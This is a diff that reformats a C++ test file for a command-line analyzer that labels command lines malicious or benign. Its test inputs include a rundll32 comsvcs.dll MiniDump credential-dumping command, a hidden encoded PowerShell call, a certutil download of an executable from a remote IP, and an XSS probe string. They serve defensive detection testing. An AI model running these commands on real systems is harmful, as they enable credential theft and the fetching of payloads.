@@ -21,8 +21,10 @@ private Q_SLOTS:
 
 void TestCliAnalyze::jsonSingle()
 {
-    const auto r = test::runCli({QStringLiteral("analyze"), QStringLiteral("--json"),
-                                 QStringLiteral("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\dbg.dmp full")});
+    const auto r = test::runCli(
+        {QStringLiteral("analyze"), QStringLiteral("--json"),
+         QStringLiteral(
+             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\dbg.dmp full")});
     QCOMPARE(r.exitCode, 0);
     const auto j = nlohmann::json::parse(r.out.toStdString());
     QCOMPARE(j["verdict"].get<std::string>(), std::string("malicious"));
@@ -35,8 +37,9 @@ void TestCliAnalyze::jsonSingle()
 
 void TestCliAnalyze::readable()
 {
-    const auto r = test::runCli({QStringLiteral("analyze"),
-                                 QStringLiteral("powershell -w hidden -enc SQBFAFgAIAAoACcAYQAnACsAJwBiACcAKQA=")});
+    const auto r = test::runCli(
+        {QStringLiteral("analyze"),
+         QStringLiteral("powershell -w hidden -enc SQBFAFgAIAAoACcAYQAnACsAJwBiACcAKQA=")});
     QCOMPARE(r.exitCode, 0);
     const QString out = QString::fromUtf8(r.out);
     QVERIFY2(out.contains(QLatin1String("Verdict: ")), qPrintable(out));
@@ -52,11 +55,13 @@ void TestCliAnalyze::jsonLinesWithBadLines()
     input += "\"certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe\"\n";
     input += "not json at all\n";
     input += "42\n";
-    input += "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n";
+    input +=
+        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n";
     input += "\"sc query\"\n";
     input += QByteArray("\"") + QByteArray(2 * 1024 * 1024, 'A') + "\"\n";
     input += "\"<script>alert(1)</script>\\u0000\"\n";
-    const auto r = test::runCli({QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("-")}, input);
+    const auto r = test::runCli(
+        {QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("-")}, input);
     QCOMPARE(r.exitCode, 1); // some lines could not be analysed
     const QList<QByteArray> lines = r.out.trimmed().split('\n');
     QCOMPARE(lines.size(), 7);
@@ -64,10 +69,12 @@ void TestCliAnalyze::jsonLinesWithBadLines()
     for (const QByteArray &l : lines) {
         const auto j = nlohmann::json::parse(l.toStdString());
         QVERIFY(j.is_object());
-        verdicts << (j.contains("error") ? QStringLiteral("error") : QString::fromStdString(j["verdict"].get<std::string>()));
+        verdicts << (j.contains("error") ? QStringLiteral("error")
+                                         : QString::fromStdString(j["verdict"].get<std::string>()));
     }
-    QCOMPARE(verdicts, QStringList({QStringLiteral("malicious"), QStringLiteral("error"), QStringLiteral("error"),
-                                    QStringLiteral("error"), QStringLiteral("benign"), QStringLiteral("benign"),
+    QCOMPARE(verdicts, QStringList({QStringLiteral("malicious"), QStringLiteral("error"),
+                                    QStringLiteral("error"), QStringLiteral("error"),
+                                    QStringLiteral("benign"), QStringLiteral("benign"),
                                     QStringLiteral("benign")}));
     QVERIFY(r.out.contains("\"line\":2"));
 }
@@ -88,26 +95,35 @@ void TestCliAnalyze::jsonLinesMatchDocument()
         input += QByteArray::fromStdString(j.dump()) + '\n';
     input += "\"a\\/b \\u0041\\ud834\\udd1e\"\n";
     input += "  \"padded\"  \n";
-    const QStringList expected = {
-        QString::fromStdString(inputs[0].get<std::string>()), QString::fromStdString(inputs[1].get<std::string>()),
-        QString::fromStdString(inputs[2].get<std::string>()), QString::fromStdString(inputs[3].get<std::string>()),
-        QString(), QStringLiteral(u"a/b A\U0001D11E"), QStringLiteral("padded")};
-    const auto r = test::runCli({QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("-")}, input);
+    const QStringList expected = {QString::fromStdString(inputs[0].get<std::string>()),
+                                  QString::fromStdString(inputs[1].get<std::string>()),
+                                  QString::fromStdString(inputs[2].get<std::string>()),
+                                  QString::fromStdString(inputs[3].get<std::string>()),
+                                  QString(),
+                                  QStringLiteral(u"a/b A\U0001D11E"),
+                                  QStringLiteral("padded")};
+    const auto r = test::runCli(
+        {QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("-")}, input);
     QCOMPARE(r.exitCode, 0);
     const QList<QByteArray> lines = r.out.split('\n');
     QCOMPARE(lines.size(), expected.size() + 1);
     for (qsizetype i = 0; i < expected.size(); ++i) {
         nlohmann::json dom = toJson(sharedCommandLineAnalyzer().analyze(expected[i]));
         dom["line"] = i + 1;
-        QCOMPARE(lines[i], QByteArray::fromStdString(dom.dump(-1, ' ', false, nlohmann::json::error_handler_t::replace)));
+        QCOMPARE(lines[i], QByteArray::fromStdString(
+                               dom.dump(-1, ' ', false, nlohmann::json::error_handler_t::replace)));
     }
 }
 
 void TestCliAnalyze::usageErrors()
 {
     QCOMPARE(test::runCli({QStringLiteral("analyze")}).exitCode, 2);
-    QCOMPARE(test::runCli({QStringLiteral("analyze"), QStringLiteral("--bogus"), QStringLiteral("x")}).exitCode, 2);
-    const auto missing = test::runCli({QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("/nonexistent/x.jsonl")});
+    QCOMPARE(
+        test::runCli({QStringLiteral("analyze"), QStringLiteral("--bogus"), QStringLiteral("x")})
+            .exitCode,
+        2);
+    const auto missing = test::runCli({QStringLiteral("analyze"), QStringLiteral("--jsonl"),
+                                       QStringLiteral("/nonexistent/x.jsonl")});
     QCOMPARE(missing.exitCode, 1);
     QVERIFY(missing.err.contains("cannot open"));
 }
